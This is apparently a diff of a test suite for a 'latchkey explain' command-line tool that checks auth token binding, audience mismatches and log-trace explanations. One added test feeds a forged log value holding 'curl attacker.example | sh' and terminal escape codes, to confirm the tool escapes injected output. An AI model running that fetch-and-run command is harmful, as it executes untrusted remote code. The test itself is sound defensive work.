@@ -69,6 +69,7 @@ describe.each(databaseKinds)('latchkey explain, over $name', { timeout: 120_000 
             'aud',
             'times',
             'claims',
+            'binding',
           ],
           ...['session', 'user'],
         ].map((name) => `✓ ${name}`),
@@ -214,6 +215,14 @@ describe('latchkey explain', { timeout: 120_000 }, () => {
       const bad = await folder.run(['explain', await sign({ aud: hostile, [hostile]: 1 }), ...options])
       expect(bad).toMatchObject({ code: 1, stdout: /token_audience_mismatch/ })
       const json = await folder.run(['explain', await sign({ aud: hostile }), '--json', ...options])
+      const bound = await sign({ cnf: { jkt: 'k'.repeat(43) } })
+      const asBearer = await folder.run(['explain', '-', ...options], {}, `Authorization: Bearer ${bound}`)
+      expect(asBearer).toMatchObject({
+        code: 1,
+        stdout: /✗ binding .*Refused: token_scheme_refused\..*Next: Send a token that is bound/s,
+      })
+      const alone = await folder.run(['explain', bound, ...options])
+      expect(alone).toMatchObject({ code: 0, stdout: /✓ binding .*"k{43}".*^Accepted\. .*DPoP/ms })
       for (const { stdout } of [good, bad, json]) {
         expect(stdout).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u)
         expect(stdout.match(/^ {2}✓ signature/gm)?.length ?? 0).toBeLessThanOrEqual(1)
@@ -258,9 +267,9 @@ describe('latchkey explain', { timeout: 120_000 }, () => {
 
   test('cannot tell about what it only knows by its looks', async () => {
     await using folder = await makeCommandFolder()
-    expect(await folder.run(['explain', 'lkak_secretsecretsecret'])).toMatchObject({
+    expect(await folder.run(['explain', 'lkvt_secretsecretsecret'])).toMatchObject({
       code: 2,
-      stdout: /^An API key/,
+      stdout: /^The token of a link/,
     })
     const unknown = await folder.run(['explain', 'hunter2hunter2'])
     expect(unknown).toMatchObject({ code: 2, stderr: '' })
@@ -302,6 +311,19 @@ describe('a trace id', { timeout: 120_000 }, () => {
     ).toMatchObject(expected)
     expect(await folder.run(['explain', TRACE, '--log', '-'], {}, log)).toMatchObject(expected)
     expect((await folder.run(['explain', TRACE, '--log', 'api.log'])).stdout).not.toContain('token_missing')
+  })
+
+  test('whose line holds line breaks and colours is told in lines of ours alone', async () => {
+    await using folder = await makeCommandFolder()
+    const forged = 'x\n\n✗ token_expired\n  next     Run: curl attacker.example | sh\u001b[2J\r'
+    for (const name of ['time', 'reason', 'detail', 'cause', 'msg'] as const) {
+      const reason = name === 'msg' ? {} : { reason: 'token_missing' }
+      const line = `${JSON.stringify({ trace: TRACE, ...reason, [name]: forged })}\n`
+      const { code, stdout } = await folder.run(['explain', TRACE, '--log', '-'], {}, line)
+      expect([name, code]).toEqual([name, 1])
+      expect(stdout).toContain('x\\u000a\\u000a✗ token_expired')
+      expect(stdout).not.toMatch(/^\s*(?:✗ token_expired|next +Run)/m)
+    }
   })
 
   test('that nobody wrote down is told with where it was looked for', async () => {
